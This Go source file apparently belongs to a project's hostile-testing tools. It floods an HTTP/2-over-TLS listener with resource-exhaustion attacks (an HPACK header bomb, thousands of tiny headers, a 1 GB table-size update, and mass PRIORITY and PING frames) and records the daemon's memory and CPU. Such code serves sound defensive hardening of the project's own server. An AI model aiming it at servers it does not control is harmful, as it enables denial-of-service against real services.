// Command hpack10a attacks an HTTP listener over TLS (ALPN h2) with header
// compression tricks, with no token: -mode bomb puts one 4 KB header in
// the HPACK dynamic table and then references it (one byte each) as many
// times as a 16 KB header block holds, on -streams streams per connection
// (decoded: 64 MB a block if nothing bounded it); -mode many sends 8,000
// tiny distinct headers a block; -mode table announces a 1 GB header table
// size update; -mode priority sends 100,000 PRIORITY frames on one
// connection; -mode ping 100,000 PINGs. It prints what each connection saw
// (frames, GOAWAY, close) and the daemon's RSS and CPU (-pid) before and
// after.
package main

import (
	"bytes"
	"flag"
	"fmt"
	"io"
	"os"
	"strconv"
	"strings"
	"sync"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"

	"github.com/classifierd/classifierd/tools/hostile/internal/probe"
)

func proc(pid int) string {
	b, _ := os.ReadFile(fmt.Sprintf("/proc/%d/status", pid))
	rss := 0
	for _, l := range strings.Split(string(b), "\n") {
		if f := strings.Fields(l); len(f) > 1 && f[0] == "VmRSS:" {
			rss, _ = strconv.Atoi(f[1])
		}
	}
	st, _ := os.ReadFile(fmt.Sprintf("/proc/%d/stat", pid))
	f := strings.Fields(string(st))
	ut, _ := strconv.Atoi(f[13])
	stt, _ := strconv.Atoi(f[14])
	return fmt.Sprintf("RSS %d MB, CPU %.2f s", rss>>10, float64(ut+stt)/100)
}

func main() {
	addr := flag.String("addr", "", "TLS HTTP listener")
	mode := flag.String("mode", "bomb", "bomb, many, table, priority or ping")
	conns := flag.Int("conns", 20, "connections")
	streams := flag.Int("streams", 60, "streams per connection (bomb, many)")
	path := flag.String("path", "/classifier.v1.ClassifierService/Route", "path")
	pid := flag.Int("pid", 0, "daemon pid")
	flag.Parse()
	fmt.Println("before:", proc(*pid))
	t0 := time.Now()
	var mu sync.Mutex
	seen := map[string]int{}
	var wg sync.WaitGroup
	for c := 0; c < *conns; c++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			res := run(*addr, *mode, *streams, *path)
			mu.Lock()
			seen[res]++
			mu.Unlock()
		}()
	}
	wg.Wait()
	fmt.Printf("%s, %d connections in %.1fs: %v\n", *mode, *conns, time.Since(t0).Seconds(), seen)
	fmt.Println("after:", proc(*pid))
	time.Sleep(3 * time.Second)
	fmt.Println("3 s later:", proc(*pid))
}

func run(addr, mode string, streams int, path string) string {
	tc, err := probe.DialTLS(nil, addr)
	if err != nil {
		return "dial: " + err.Error()
	}
	defer tc.Close()
	if _, err := io.WriteString(tc, http2.ClientPreface); err != nil {
		return err.Error()
	}
	fr := http2.NewFramer(tc, tc)
	fr.AllowIllegalWrites = true
	_ = fr.WriteSettings()
	var hb bytes.Buffer
	enc := hpack.NewEncoder(&hb)
	base := func() {
		for _, f := range []hpack.HeaderField{{Name: ":method", Value: "POST"}, {Name: ":scheme", Value: "https"},
			{Name: ":authority", Value: "127.0.0.1"}, {Name: ":path", Value: path}, {Name: "content-type", Value: "application/json"}} {
			_ = enc.WriteField(f)
		}
	}
	done := make(chan string, 1)
	go func() {
		frames := map[string]int{}
		for {
			f, err := fr.ReadFrame()
			if err != nil {
				done <- fmt.Sprintf("%v frames=%v", shortErr(err), frames)
				return
			}
			k := f.Header().Type.String()
			if g, ok := f.(*http2.GoAwayFrame); ok {
				k = "GOAWAY:" + g.ErrCode.String()
			}
			if r, ok := f.(*http2.RSTStreamFrame); ok {
				k = "RST:" + r.ErrCode.String()
			}
			if h, ok := f.(*http2.HeadersFrame); ok {
				k = "HEADERS"
				_ = h
			}
			frames[k]++
		}
	}()
	switch mode {
	case "bomb", "many":
		for s := 0; s < streams; s++ {
			hb.Reset()
			base()
			if mode == "bomb" {
				// A 4 KB literal with incremental indexing, then index 62 (the newest
				// dynamic entry) repeated: 0xbe is an indexed field of index 62.
				if s == 0 {
					_ = enc.WriteField(hpack.HeaderField{Name: "x-big", Value: strings.Repeat("a", 4000)})
				}
				hb.Write(bytes.Repeat([]byte{0xbe}, 16000))
			} else {
				for i := 0; i < 8000; i++ {
					hb.Write([]byte{0x00, 0x01, byte('a' + i%26), 0x01, byte('0' + i%10)})
				}
			}
			if err := fr.WriteHeaders(http2.HeadersFrameParam{StreamID: uint32(2*s + 1), BlockFragment: hb.Bytes(), EndHeaders: true, EndStream: true}); err != nil {
				break
			}
		}
	case "table":
		hb.Write([]byte{0x3f, 0xe1, 0xff, 0xff, 0xff, 0x03}) // dynamic table size update to about 1 GB
		base()
		_ = fr.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: hb.Bytes(), EndHeaders: true, EndStream: true})
	case "priority":
		for i := 0; i < 100000; i++ {
			if fr.WritePriority(uint32(2*(i%1000)+1), http2.PriorityParam{StreamDep: uint32(2*((i+1)%1000) + 1), Weight: 255}) != nil {
				break
			}
		}
	case "ping":
		for i := 0; i < 100000; i++ {
			if fr.WritePing(false, [8]byte{byte(i)}) != nil {
				break
			}
		}
	}
	select {
	case r := <-done:
		return r
	case <-time.After(8 * time.Second):
		tc.Close()
		return "held 8s; " + <-done
	}
}

func shortErr(err error) string {
	s := err.Error()
	if i := strings.LastIndex(s, ": "); i >= 0 {
		s = s[i+2:]
	}
	return s
}
